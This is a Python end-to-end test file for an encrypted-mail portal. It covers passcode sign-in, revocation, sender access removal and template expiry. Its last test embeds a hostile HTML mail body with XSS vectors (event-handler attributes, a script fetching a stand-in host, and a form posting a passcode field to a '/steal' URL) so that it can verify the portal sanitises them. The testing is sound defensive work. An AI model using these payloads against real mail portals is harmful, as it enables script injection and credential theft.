"""The whole story with real clients: Python's smtplib sends into the real `omeconsole serve mail`, an
aiosmtpd sink plays the recipients' mail servers, and a real headless Chromium (Debian's `chromium`,
driven by Playwright) follows the wrapper mail's link to the OME portal (in-process, on an injected
clock), asks for a one-time passcode, reads it from the sink, signs in and reads the message; then
the admin's revoke, the sender's Remove external access and the template's expiry reach that page.
The screenshots (/tmp/portal-*.png) are what the recipient sees."""

import asyncio
import email
import email.policy
import re
import signal
import smtplib
import subprocess

import pytest

from omeconsole.core.mail.wrapper import PASSCODE_SUBJECT
from omeconsole.core.ome.portal import EXPIRED_TEXT, REVOKED_TEXT
from omeconsole.serve.portal.run import PortalServer
from support.cli import OMECONSOLE, clean_env
from support.smtp_sink import SmtpSink
from support.browser import chromium
from support.waiting import within

SENDER = "megan.bowen@contoso.com"
BOB = "bob.kelly@gmail.com"
DEADLINE = 30


def mime(message_id: str, subject="Salary review", body="The figures are in the attached sheet.", html=None,
         template="Contoso Secure", to=BOB) -> bytes:
    mail = email.message.EmailMessage(policy=email.policy.SMTP)
    mail["From"], mail["To"], mail["Subject"], mail["Message-ID"] = SENDER, to, subject, message_id
    mail["X-OME-Encrypt"], mail["X-OME-Template"] = "encrypt-only", template
    mail.set_content(body)
    if html is not None:
        mail.add_alternative(html, subtype="html")
    return mail.as_bytes()


def subject_of(data: bytes) -> str:
    return str(email.message_from_bytes(data, policy=email.policy.default)["Subject"])


def text_of(data: bytes) -> str:
    parsed = email.message_from_bytes(data, policy=email.policy.default)
    return "".join(part.get_content() for part in parsed.walk() if part.get_content_type() == "text/plain")


class Story:
    """The sink, `serve mail` relaying to it, and the portal its wrapper mails link to."""

    def __init__(self, root, clock, cli):
        self.root, self.clock, self.cli = root, clock, cli
        self.sink = SmtpSink().start()
        self.portal = PortalServer(root, None, clock=clock)
        self.mail: subprocess.Popen | None = None
        self.smtp_port = 0

    async def start(self) -> None:
        port = await self.portal.start("127.0.0.1", 0)
        self.mail = subprocess.Popen(
            [*OMECONSOLE, "--store", str(self.root), "serve", "mail", "--listen", "127.0.0.1:0", "--relay",
             self.sink.address, "--portal-url", f"http://127.0.0.1:{port}"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True, env=clean_env())
        said = await within(DEADLINE, asyncio.to_thread(self._listening), "serve mail saying where it listens")
        self.smtp_port = int(re.search(r"Listening on 127\.0\.0\.1:(\d+)", said).group(1))

    def _listening(self) -> str:
        assert self.mail is not None and self.mail.stdout is not None
        for line in self.mail.stdout:
            if line.startswith("Listening on"):
                return line
        raise AssertionError(f"serve mail stopped: {self.mail.stderr.read() if self.mail.stderr else ''}")

    async def stop(self) -> None:
        if self.mail is not None and self.mail.poll() is None:
            self.mail.send_signal(signal.SIGINT)
            try:
                await asyncio.to_thread(self.mail.communicate, timeout=DEADLINE)
            finally:
                if self.mail.poll() is None:
                    self.mail.kill()
        await self.portal.stop()
        self.sink.stop()

    async def send(self, data: bytes, recipients=(BOB,)) -> None:
        def sendmail() -> None:
            with smtplib.SMTP("127.0.0.1", self.smtp_port, timeout=DEADLINE) as client:
                client.sendmail(SENDER, list(recipients), data)

        await asyncio.to_thread(sendmail)

    async def mail_to(self, recipient: str, subject: str, number: int = 0) -> str:
        """The plain text of the NUMBER-th mail with this subject the recipient's server received."""
        async def arrived() -> str:
            while True:
                seen = self.sink.received()
                texts = [text_of(m.data) for m in seen if recipient in m.rcpt_tos and subject_of(m.data) == subject]
                if len(texts) > number:
                    return texts[number]
                await self.sink.wait_for(len(seen) + 1)

        return await within(DEADLINE, arrived(), f"mail {number + 1} titled {subject!r} to {recipient} at the sink")

    async def link(self, subject: str, recipient: str = BOB) -> str:
        """The portal link in the wrapper mail the recipient's server received."""
        text = await self.mail_to(recipient, subject)
        return re.search(r"http://127\.0\.0\.1:\d+/m/[A-Za-z0-9_-]+", text).group(0)

    async def passcode(self, recipient: str, seen: int) -> str:
        """The one-time passcode in the passcode mail after the SEEN-th the recipient received."""
        text = await self.mail_to(recipient, PASSCODE_SUBJECT, seen)
        return re.search(r"passcode: (\d{8})", text).group(1)


@pytest.fixture
async def story(demo_store, clock, demo_cli):
    told = Story(demo_store, clock, demo_cli)
    try:
        await told.start()
        yield told
    finally:
        await told.stop()


@pytest.fixture
async def browser():
    async with chromium(viewport={"width": 1100, "height": 760}) as context:
        yield context


class Watched:
    """A tab, and everything it asked for or said: requests, console messages, page errors."""

    def __init__(self, page):
        self.page = page
        self.requests: list[str] = []
        self.console: list[str] = []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("console", lambda message: self.console.append(message.text))
        page.on("pageerror", lambda error: self.console.append(str(error)))


async def open_and_sign_in(browser, story: Story, link: str, seen: int = 0, shots: str | None = None):
    """Chromium follows the link, asks for a passcode, reads it from the sink and signs in (SHOTS: the
    landing and passcode pages are saved as SHOTS + landing.png and passcode.png)."""
    tab = Watched(await browser.new_page())
    response = await tab.page.goto(link)
    assert response.status == 200
    assert "not offered by this portal" in await tab.page.inner_text("main")
    if shots:
        await tab.page.screenshot(path=f"{shots}landing.png", full_page=True)
    await tab.page.get_by_role("button", name="Sign in with a one-time passcode").click()
    await tab.page.wait_for_url("**/sign-in")
    code = await story.passcode(BOB, seen)
    if shots:
        await tab.page.screenshot(path=f"{shots}passcode.png", full_page=True)
    await tab.page.fill("input[name=passcode]", code)
    await tab.page.get_by_role("button", name="Continue").click()
    await tab.page.wait_for_url("**/message")
    return tab


BRANDING = ["--background-color", "#5c2d91", "--introduction-text", "has sent you a secure message.",
            "--portal-text", "Contoso protects the mail it sends outside the company. Sign in to read it.",
            "--disclaimer-text", "This message is for its addressee only. If it reached you by mistake, delete it."]


async def test_a_recipient_reads_the_message_and_the_admins_revoke_reaches_the_page(story, browser):
    await asyncio.to_thread(story.cli, "template", "set", "Contoso Secure", *BRANDING)
    await story.send(mime("<story-1@contoso.com>"))
    link = await story.link("Salary review")
    tab = await open_and_sign_in(browser, story, link, shots="/tmp/portal-")
    shown = await tab.page.inner_text("main")
    for part in ("Salary review", SENDER, BOB, "The figures are in the attached sheet."):
        assert part in shown
    await tab.page.screenshot(path="/tmp/portal-message.png", full_page=True)
    (cookie,) = await browser.cookies()
    path = "/m/" + link.rsplit("/m/", 1)[1]
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"], cookie["secure"]) == (True, "Strict", path, False)
    await asyncio.to_thread(story.cli, "revoke", "--message-id", "<story-1@contoso.com>")
    await tab.page.reload()
    shown = await tab.page.inner_text("main")
    assert REVOKED_TEXT in shown and "The figures" not in shown
    await tab.page.screenshot(path="/tmp/portal-revoked.png", full_page=True)


async def test_the_senders_remove_external_access_reaches_the_page(story, browser):
    await story.send(mime("<story-2@contoso.com>", subject="Offer letter"))
    tab = await open_and_sign_in(browser, story, await story.link("Offer letter"))
    assert "The figures are in the attached sheet." in await tab.page.inner_text("main")
    await asyncio.to_thread(story.cli, "revoke", "--message-id", "<story-2@contoso.com>", "--as", SENDER)
    await tab.page.reload()
    assert REVOKED_TEXT in await tab.page.inner_text("main")


async def test_an_expiring_templates_message_shows_it_has_expired(story, browser):
    await story.send(mime("<story-3@contoso.com>", subject="Budget", template="Contoso Finance"))  # 7 days
    tab = await open_and_sign_in(browser, story, await story.link("Budget"))
    assert "The figures are in the attached sheet." in await tab.page.inner_text("main")
    story.clock.advance(days=7, hours=1)  # serve mail received it on the real clock, a moment after ours began
    await tab.page.reload()
    shown = await tab.page.inner_text("main")
    assert EXPIRED_TEXT in shown and "The figures" not in shown


HOSTILE = ('<h2 onmouseover="window.pwned=1">Quarterly numbers</h2><p style="background:url(http://203.0.113.9/s)">'
           'Revenue is up.</p><script>window.pwned = 2; fetch("http://203.0.113.9/x")</script>'
           '<img src="http://203.0.113.9/pixel.png" onerror="window.pwned=3">'
           '<img src="x" onerror="window.pwned=4"><iframe src="http://203.0.113.9/frame"></iframe>'
           '<link rel="stylesheet" href="http://203.0.113.9/style.css"><svg onload="window.pwned=5"></svg>'
           '<form action="http://203.0.113.9/steal"><input name="passcode"></form>')


async def test_a_hostile_body_runs_nothing_and_loads_nothing(story, browser):
    await story.send(mime("<story-4@contoso.com>", subject="Numbers", html=HOSTILE))
    tab = await open_and_sign_in(browser, story, await story.link("Numbers"))
    await tab.page.get_by_role("heading", name="Quarterly numbers").hover()
    shown = await tab.page.inner_text("main")
    assert "Quarterly numbers" in shown and "Revenue is up." in shown
    assert await tab.page.evaluate("window.pwned") is None
    assert await tab.page.evaluate("document.querySelectorAll('img, script, iframe, svg, link, input').length") == 0
    portal = (await story.link("Numbers")).split("/m/")[0]
    assert [url for url in tab.requests if not url.startswith(portal)] == []
    assert tab.console == []
    await tab.page.screenshot(path="/tmp/portal-hostile.png", full_page=True)
